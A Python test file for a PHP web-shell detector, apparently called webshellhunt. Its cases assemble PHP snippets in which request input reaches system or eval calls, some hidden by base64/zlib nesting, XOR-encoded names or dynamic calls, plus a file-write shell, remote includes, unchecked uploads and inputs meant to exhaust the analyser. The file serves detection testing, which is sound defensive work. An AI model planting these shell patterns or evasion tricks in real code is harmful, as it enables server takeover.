"""The life of a page of PHP, and the acts of its code."""

from __future__ import annotations

import base64
import zlib
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webshellhunt.analysis.php import GROUPS, analyse
from webshellhunt.analysis.php_prefilter import may_act

RUN = "sys" + "tem"
JUDGE = "ev" + "al"
ASKED = "$_" + "POST['k']"


def kinds(code: str) -> set[str]:
    page = f"<?php {code}"
    found = {act.kind for act in analyse(page).found}
    assert not found or may_act(page.lower().encode("latin-1"))
    return found


@pytest.mark.parametrize(
    "code",
    [
        "$a = {0}; {1}($a);",
        "function f($x) {{ return trim($x); }} {1}(f({0}));",
        "function f($x) {{ {1}($x); }} f({0});",
        "class A {{ function g($x) {{ $this->y = $x; $this->h(); }} function h() {{ {1}($this->y); }} }} $a->g({0});",
        "foreach (array({0}) as $v) {{ {1}($v); }}",
        "list($a, $b) = explode('|', {0}); {1}($b);",
        "$n = 'syst'; $n .= 'em'; $n({0});",
        "$a['x'] = {0}; {1}($a['x']);",
        "$GLOBALS['q'] = {0}; function f() {{ global $q; {1}($q); }} f();",
        "if (isset({0})) $a = {0}; else $a = ''; {1}($a);",
        "if ($b) {{ $a = {0}; }} else {{ $a = ''; }} {1}($a);",
        "switch ($b) {{ case 1: $a = {0}; break; default: $a = ''; }} {1}($a);",
        '{1}("{{{0}}}");',
        "preg_match('/(.*)/', {0}, $m); {1}($m[1]);",
        "array_map('{1}', array({0}));",
        "define('D', 'sys' . 'tem'); $d = D; $d({0});",
        "$f = 'sys' . chr(116) . 'em'; call_user_func($f, {0});",
        "${{'_PO' . 'ST'}}['c']({0});",
    ],
)
def test_a_request_value_is_followed(code: str) -> None:
    assert kinds(code.format(ASKED, RUN)) & {"command", "code"}


@pytest.mark.parametrize(
    "code",
    [
        f"{RUN}('ls'); echo {ASKED};",
        f"$a = {ASKED}; $a = 'x'; {RUN}($a);",
        f"{RUN}(escapeshellarg({ASKED}));",
        f"{RUN}((int) {ASKED});",
        f"$this->{RUN}({ASKED});",
        f"function {RUN}x($a) {{ return $a; }} {RUN}x({ASKED});",
        f"$n = preg_replace('/[^a-z]/', '', {ASKED}); include $n;",
        f"$actions = array('a' => 'show'); $f = $actions[{ASKED}]; $f();",
        f'echo "{RUN}({ASKED})";',
        f"include __DIR__ . '/pages/' . basename({ASKED}) . '.php';",
    ],
)
def test_an_honest_use_is_no_act(code: str) -> None:
    assert kinds(code) <= {"part"}


def test_nested_packing_is_unpacked() -> None:
    code = f"{RUN}({ASKED});"
    for _ in range(5):
        packed = base64.b64encode(zlib.compress(code.encode())).decode()
        code = f"{JUDGE}(gzuncompress(base64_decode('{packed}')));"
    assert kinds(code) == {"unpacked", "command"}


def test_own_text_in_bytes() -> None:
    hidden = "".join(chr(ord(a) ^ 7) for a in RUN)
    assert kinds(f"$a = '{hidden}' ^ '{chr(7) * len(RUN)}'; $a({ASKED});") == {"command"}


@pytest.mark.parametrize(
    "hostile",
    [
        *(part * 5000 for part in ("(", "[", "$a[0", "!", "{", "f(", "if (1) ", "else ", "$$", "~")),
        "function f() { f(); } f();" * 50,
        "$a = $a . $a;" * 300,
        '"{$a[' * 2000,
        "${" * 3000,
        "$a->" * 3000,
        "? :" * 3000,
        f"{JUDGE}('" + f'{JUDGE}("' * 500,
    ],
)
def test_hostile_code_ends(hostile: str) -> None:
    analyse(f"<?php {RUN}({ASKED}); {hostile}")


LARGE = '$a = str_repeat("x", 4000000);'


@pytest.mark.parametrize(
    "hostile",
    [
        LARGE + "".join(f'$v{number} = $a . "y";' for number in range(1000)),
        LARGE + "$b = $a ^ $a;" * 100,
        LARGE + '$a .= "y";' * 5_000,
        LARGE + f'$b = "{"$a" * 25_000}";',
        LARGE + "$b = array(" + "$a . 'y'," * 500 + ");",
        LARGE + "$a();" * 500 + "$$a;" * 500 + "$b[$a];" * 500,
        LARGE + "$b = str_replace(['x', 'y'], ['y', 'x'], $a);" * 250,
        LARGE + "$b = [$a, $a, $a]; implode($a, $b);" * 1000,
        "$a[] = '1';" * 500 + "strrev($a);" * 12_000,
        '$b = "' + "{$a}" * 60_000 + '";',
        "1;" * 40_000,
        f"{JUDGE}('1;');" * 15_000,
    ],
    ids=range(12),
)
def test_work_is_counted(hostile: str) -> None:
    begun = process_time()
    analyse(f"<?php {hostile} {RUN}({ASKED});")
    assert process_time() - begun < 5


@pytest.mark.parametrize(
    "hostile",
    [
        "$a = [1]; $b = [1];" + "$a = [$a]; $b = [$b];" * 1500 + "$c = $d ? $a : $b;",
        "$a = [1]; $b = [1];" + "$a = [$a, $a]; $b = [$b, $b];" * 26 + "$c = $d ? $a : $b;",
        f"{RUN}('" + "/powershell" * 20_000 + "\nx');",
        "function f " * 100_000,
        "function " * 100_000,
        '$z = "-" + 1;',
        'str_split("abc", "\xb2"); strtoupper("\xb5\xff") ^ "ab"; ~strtoupper("\xff");',
    ],
    ids=range(7),
)
def test_hostile_code_hides_nothing(hostile: str) -> None:
    begun = process_time()
    acts = analyse(f"<?php {RUN}({ASKED}); {hostile}")
    assert "command" in {act.kind for act in acts.found}
    assert not acts.exhausted
    assert process_time() - begun < 10


def test_many_elements_end_soon() -> None:
    begun = process_time()
    analyse("<?php $x = " + "$a[" * 100_000)
    assert process_time() - begun < 10


@pytest.mark.parametrize(
    "code",
    [
        "if (!function_exists('{1}')) {{ function {1}($c) {{ }} }} {1}({0});",
        "namespace b {{ function {1}($x) {{ }} }} namespace {{ {1}({0}); }}",
        r"namespace b; function {1}($x) {{ }} \{1}({0});",
        "namespace b; if ($x) {{ function {1}($x) {{ }} }} {1}({0});",
        "function r($c) {{ {1}($c); }}" + "r('abcde');" * 20 + " r({0});",
        "(" * 200 + "{1}({0})" + ")" * 200 + ";",
        "$a = ((('sys') . 'tem')); $a({0});",
    ],
)
def test_declarations_and_depth_hide_no_call(code: str) -> None:
    assert kinds(code.format(ASKED, RUN)) == {"command"}


def test_a_function_of_the_namespace_replaces_that_of_php() -> None:
    assert kinds(f"namespace b; function {RUN}($x) {{ }} {RUN}({ASKED});") == set()


@given(st.text(alphabet="$ab=.;()[]{}'\"?:,->\n@&^~", max_size=80))
def test_any_text_ends_without_an_error(text: str) -> None:
    analyse(f"<?php {text}")


# Values that a page compares with a list of its own ----------------------------------------------------------------


def listed_kinds(code: str) -> list[str]:
    return sorted(act.kind for act in analyse("<?php " + code.format(f"$f = {ASKED};", RUN, ASKED)).found)


@pytest.mark.parametrize(
    "code",
    [
        "{0} $ok = array('home', 'about'); if (in_array($f, $ok)) include $f . '.php'; else include 'none.php';",
        "{0} if (in_array($f, ['list_all', 'edit'], true)) {{ $f($x); }}",
        "{0} $m = array('a' => 1, 'b' => 2); if (isset($m[$f]) && $y) {{ include $f . '.php'; }}",
        "{0} $m = array('a' => 1, 'b' => 2); if (array_key_exists($f, $m)) {{ include $f . '.php'; }}",
        "{0} switch ($f) {{ case 'a': case 'b': include $f . '.php'; break; default: echo 1; }}",
        "{0} $ok = array('a', 'b'); if (!in_array($f, $ok)) {{ header('x'); exit; }} include $f . '.php';",
        "{0} $ok = array('a', 'b'); if (!in_array($f, $ok)) $f = 'a'; include $f . '.php';",
        "{0} if (in_array($f, ['a', 'b'])) {{ call_user_func($f, $x); }}",
    ],
)
def test_a_text_of_a_constant_list(code: str) -> None:
    assert listed_kinds(code) == ["listed"]


@pytest.mark.parametrize(
    "code",
    [
        "if (in_array($f, $ok)) {{ }} $f($x);",
        "if (in_array($f, $ok)) echo 1; else $f($x);",
        "if (in_array($f, $ok)) if ($y): endif; if ($z) {{ $f($x); }}",
        "if (in_array($f, $ok) || $y) $f($x);",
        "if (in_array($f, $ok) && ($f = {2})) $f($x);",
        "if (in_array($f, $ok)) {{ if ($y) {{ {0} }} $f($x); }}",
        "$ok[] = {2}; if (in_array($f, $ok)) $f($x);",
        "if (in_array($f, array(0))) $f($x);",
        "if (in_array($f, array(true))) $f($x);",
        "if (in_array($f, array('{1}'))) $f($x);",
        "if (!in_array($f, $ok)) die($f($x));",
        "if (!in_array($f, $ok)) {{ if ($y) exit; }} $f($x);",
        "switch ($f) {{ case 'a': break; default: $f($x); }}",
        "switch ($f) {{ default: case 'a': $f($x); }}",
        "switch ($f) {{ case 'a': break; }} $f($x);",
        "switch ($f) {{ case 'a': {0} $f($x); }}",
    ],
)
def test_a_value_that_may_be_another_text(code: str) -> None:
    assert listed_kinds("{0} $ok = array('a', 'b'); " + code) == ["code"]


@pytest.mark.parametrize(
    "code",
    [
        "if (in_array($f, array('syst'))) {{ $f .= 'em'; $f({2}); }}",
        "function go($x) {{ {1}($x); }} if (in_array($f, array('go'))) $f({2});",
        "function go($x) {{ {1}($x); }} switch ($f) {{ case 'go': case 'b': $f({2}); }}",
    ],
)
def test_the_listed_functions_are_called(code: str) -> None:
    assert listed_kinds("{0} " + code) == ["command", "listed"]


# The acts of single calls ------------------------------------------------------------------------------------------

REPLACE = "preg_" + "replace"


def words(code: str) -> list[str]:
    return [act.words for act in analyse(f"<?php {code}").found]


@pytest.mark.parametrize(
    ("pattern", "executes"), [("/a/e", True), ("#a#ise", True), ("{a}e", True), ("/ae/", False), ("/e/i", False)]
)
def test_a_pattern_with_the_modifier_e_executes_the_replacement(pattern: str, executes: bool) -> None:
    assert bool(words(f"{REPLACE}('{pattern}', {ASKED}, 'a');")) is executes


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (ASKED, "executes the file that it names (include)"),
        ("'php://input'", "executes the body of the request (include)"),
        ("'http://192.0.2.1/a.txt'", "fetches a text and executes it (include)"),
    ],
)
def test_paths_that_a_page_includes(path: str, expected: str) -> None:
    assert words(f"include {path};") == [expected]


@pytest.mark.parametrize("path", ["'a.php'", f"'parts/' . {ASKED}", "$a . 'x.php'"])
def test_paths_of_the_page_are_no_act(path: str) -> None:
    assert words(f"include {path};") == []


def test_a_page_that_is_written_is_read() -> None:
    shell = f'<?php ev"."al({ASKED[0]}"."{ASKED[1:]});'.replace("'", "")
    assert words(f'file_put_contents("a.php", "{shell}".replace("", ""));'.replace('.replace("", "")', "")) is not None
    assert words("file_put_contents('a.php', '<?php echo 1;');") == []


def test_a_file_of_the_visitors_name_and_content() -> None:
    assert words(f"$h = fopen({ASKED}, 'w'); fwrite($h, {ASKED});")
    assert words(f"$h = fopen('a.txt', 'w'); fwrite($h, {ASKED});") == []


def test_a_function_is_in_one_group_of_a_toolkit() -> None:
    names = [name for group in GROUPS.values() for name in group]
    assert len(names) == len(set(names))


NAME = "$_" + "FILES['f']['name']"
STORED = "move_upl" + "oaded_file($_" + "FILES['f']['tmp_name'], 'up/' . "
KINDS = "array('jpg', 'png', 'gif')"


@pytest.mark.parametrize(
    ("ending", "check"),
    [
        ("pathinfo($n, PATHINFO_EXTENSION)", f"!in_array($e, {KINDS})"),
        ("strtolower(pathinfo($n)['extension'])", f"in_array($e, {KINDS}, true) === false"),
        ("substr(strrchr($n, '.'), 1)", "$e != 'jpg' && $e != 'png'"),
        ("end(explode('.', $n))", "!isset(array('jpg' => 1, 'png' => 2)[$e])"),
        ("$n", r"!preg_match('/\.(jpg|png)$/i', $e)"),
    ],
)
def test_an_upload_whose_ending_is_checked(ending: str, check: str) -> None:
    page = f"$n = {NAME}; $e = {ending}; {{}} {STORED}$n);"
    assert kinds(page.format("")) == {"kept"}
    assert kinds(page.format(f"if ({check}) {{ exit; }}")) == set()
    assert kinds(page.format(f"if ({check.replace('jpg', 'php')}) {{ exit; }}")) == {"kept"}
